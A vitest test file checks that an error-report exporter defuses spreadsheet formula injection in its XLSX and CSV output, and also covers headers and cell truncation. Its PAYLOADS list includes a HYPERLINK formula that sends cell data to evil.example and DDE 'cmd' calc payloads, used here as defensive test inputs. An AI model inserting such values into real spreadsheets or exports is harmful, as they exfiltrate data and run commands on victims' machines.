import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import * as XLSX from 'xlsx'
import type { ImportErrorRow } from '../db/import-errors.ts'
import { buildReportTable, writeReportCsv, writeReportXlsx } from './error-report.ts'
import { EXCEL_CELL_LIMIT, truncateCell } from './safe-text.ts'

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\n=1',
  '-2+3',
  '  =1+1',
  '=1+1',
]
const SAFE = ['+905551234567', '+1 (213) 373-4253', '0555 123 45 67', '-2', 'Şükrü Çağlayan']
const HUGE = 'é'.repeat(1024 * 1024)

function errors(): ImportErrorRow[] {
  const out: ImportErrorRow[] = []
  let row = 2
  for (const v of [...PAYLOADS, ...SAFE]) {
    out.push({ row_number: row++, cells: [v, v], codes: ['PHONE_INVALID'], messages: ['bad'] })
  }
  out.push({
    row_number: row++,
    cells: ['line one\r\nline two', 905551234567, true, null, 'extra'],
    codes: ['PHONE_INVALID', 'EXTRA_VALUES'],
    messages: ['a', 'b'],
  })
  out.push({ row_number: row, cells: [HUGE, '1'], codes: ['VALUE_TOO_LONG'], messages: ['long'] })
  return out
}

describe('error report', () => {
  const table = buildReportTable(['Name', null], errors())

  it('lays out Row, Issues, Reason and the file columns, blank headers by letter', () => {
    expect(table[0]).toEqual([
      'Row',
      'Issues',
      'Reason',
      'Name',
      'Column B',
      'Column C',
      'Column D',
      'Column E',
    ])
    const mixed = table[PAYLOADS.length + SAFE.length + 1]
    expect(mixed).toEqual([
      String(PAYLOADS.length + SAFE.length + 2),
      'PHONE_INVALID, EXTRA_VALUES',
      'a b',
      'line one\r\nline two',
      '905551234567',
      'TRUE',
      '',
      'extra',
    ])
  })

  it('truncates cells over 32,767 characters with a marker that says how long they were', () => {
    const cell = table[table.length - 1]?.[3] as string
    expect(cell.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT)
    expect(cell).toMatch(/… \[truncated: 1,048,576 characters\]$/)
    expect(truncateCell('x'.repeat(EXCEL_CELL_LIMIT))).toHaveLength(EXCEL_CELL_LIMIT)
    const pairs = truncateCell('😀'.repeat(20_000))
    expect(pairs.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT)
    expect(() => encodeURIComponent(pairs)).not.toThrow()
  })

  it('writes XLSX where every cell is a string and none is a formula', () => {
    const book = XLSX.read(writeReportXlsx(table), { type: 'buffer', cellFormula: true })
    const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet
    let cells = 0
    for (const [addr, cell] of Object.entries(sheet)) {
      if (addr.startsWith('!')) continue
      cells++
      expect(cell.f, addr).toBeUndefined()
      expect(cell.t, addr).toBe('s')
    }
    expect(cells).toBeGreaterThan(PAYLOADS.length * 2)
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true })
    for (let i = 0; i < PAYLOADS.length; i++) expect(rows[i + 1]?.[3]).toBe(PAYLOADS[i])
    expect(rows[PAYLOADS.length + 1]?.[3]).toBe('+905551234567')
    expect(String(rows[rows.length - 1]?.[3]).length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT)
  })

  it('writes CSV with a BOM, CRLF, formulas defused and phone numbers left readable', () => {
    const csv = writeReportCsv(table)
    expect(csv.startsWith('\uFEFFRow,Issues,Reason,Name')).toBe(true)
    const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true })
    expect(parsed.errors).toEqual([])
    expect(parsed.data).toHaveLength(table.length)
    for (let i = 0; i < PAYLOADS.length; i++) {
      expect(parsed.data[i + 1]?.[3]).toBe(`'${PAYLOADS[i]}`)
    }
    for (let i = 0; i < SAFE.length; i++) {
      expect(parsed.data[PAYLOADS.length + i + 1]?.[3]).toBe(SAFE[i])
    }
    expect(csv).toContain('"line one\r\nline two"')
    expect(csv).toContain(`"'\r=1"`)
    expect(parsed.data[parsed.data.length - 1]?.[3]?.length).toBeLessThanOrEqual(EXCEL_CELL_LIMIT)
  })
})
